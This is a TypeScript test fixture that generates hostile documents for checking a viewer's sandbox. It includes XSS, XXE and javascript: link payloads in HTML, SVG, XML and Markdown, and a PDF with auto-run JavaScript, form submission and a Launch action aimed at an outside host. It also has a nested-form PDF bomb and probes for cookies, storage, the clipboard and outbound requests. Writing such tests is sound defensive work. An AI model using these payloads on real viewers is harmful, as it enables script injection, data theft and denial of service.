/** What somebody hostile would store. `elsewhere` is a host of theirs, which counts its visits. */
import { pdfOf, stream } from './pdf.ts'

export const textsFor = (elsewhere: string): readonly string[] => [
  `<!doctype html><h1>Hi</h1><script>alert(1)</script><img src=${elsewhere} onerror="alert(2)"><meta http-equiv=refresh content="0;url=${elsewhere}">`,
  `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script><image href="${elsewhere}/x"/></svg>`,
  `<?xml version="1.0"?><?xml-stylesheet href="${elsewhere}/x.xsl" type="text/xsl"?><!DOCTYPE a [<!ENTITY e SYSTEM "${elsewhere}/e">]><a>&e;</a>`,
  `[x](javascript:alert(1)) ![y](${elsewhere}/y.png)`,
]

export function hostilePdf(elsewhere: string): Buffer {
  const script = `/S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\("${elsewhere}/"\\))`
  const link = (action: string): string =>
    `<< /Type /Annot /Subtype /Link /Rect [0 0 200 200] /A << ${action} >> >>`
  return pdfOf({
    content: 'BT /F1 12 Tf 10 100 Td (Hello, PDF) Tj ET /X Do',
    catalog: `/OpenAction << ${script} >> /AA << /WC << ${script} >> >> /URI << /Base (${elsewhere}/) >>
      /AcroForm << /XFA 7 0 R /Fields [] >>`,
    page: `/AA << /O << ${script} >> >> /Annots [
      ${link('/S /URI /URI (javascript:alert\\(2\\))')} ${link(`/S /Launch /F (${elsewhere}/x.exe)`)}
      << /Type /Annot /Subtype /Widget /FT /Tx /T (t) /Rect [0 0 50 50] /AA << /K << ${script} >> >> >> ]`,
    resources: '/XObject << /X 6 0 R >>',
    objects: [
      stream('', `/Type /XObject /Subtype /Image /Width 1 /Height 1 /F << /FS /URL /F (${elsewhere}/i) >>`),
      stream('<template><script>app.alert(3)</script></template>'),
    ],
  })
}

/** Forms within forms: 10 to the power of 12 rectangles. */
export function endlessPdf(): Buffer {
  const levels = 12
  const ten = '/X Do '.repeat(10)
  const form = (_: unknown, level: number): string =>
    stream(
      level === levels - 1 ? '0 0 1 1 re f' : ten,
      `/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X ${level + 7} 0 R >> >>`,
    )
  return pdfOf({
    content: ten,
    resources: '/XObject << /X 6 0 R >>',
    objects: Array.from({ length: levels }, form),
  })
}

/** What a script would try, had one got in: each is an expression, and fails or is rejected. */
export const reachesFor = (elsewhere: string) => ({
  page: 'parent.document.title',
  'storage of the page': 'parent.localStorage.length',
  storage: 'localStorage.length',
  database: `new Promise((done, failed) => { const r = indexedDB.open('x'); r.onsuccess = done; r.onerror = failed })`,
  cookies: 'document.cookie',
  caches: `caches.open('x')`,
  vault: `fetch('/config.json')`,
  'another host': `fetch('${elsewhere}/fetch')`,
  picture: `new Promise((done, failed) => Object.assign(new Image(), { onload: done, onerror: failed, src: '${elsewhere}/x.png' }))`,
  window: `open('${elsewhere}/open') ?? Promise.reject()`,
  'address of the page': `top.location = '${elsewhere}/top'`,
  // Later: what the test itself runs may make code.
  code: `new Promise((done, failed) => setTimeout(() => { try { done(Function('return 1')()) } catch { failed() } }))`,
  markup: `document.body.innerHTML = '<b>x</b>'`,
  script: `new Promise((done, failed) => document.head.append(Object.assign(document.createElement('script'), { onload: done, onerror: failed, src: '${elsewhere}/x.js' })))`,
  worker: `new Worker('/assets/host.js')`,
  'service worker': `navigator.serviceWorker.register('/assets/host.js')`,
  socket: `new Promise((done, failed) => Object.assign(new WebSocket('${elsewhere.replace('http', 'ws')}/'), { onopen: done, onerror: failed }))`,
  clipboard: 'navigator.clipboard.readText()',
})
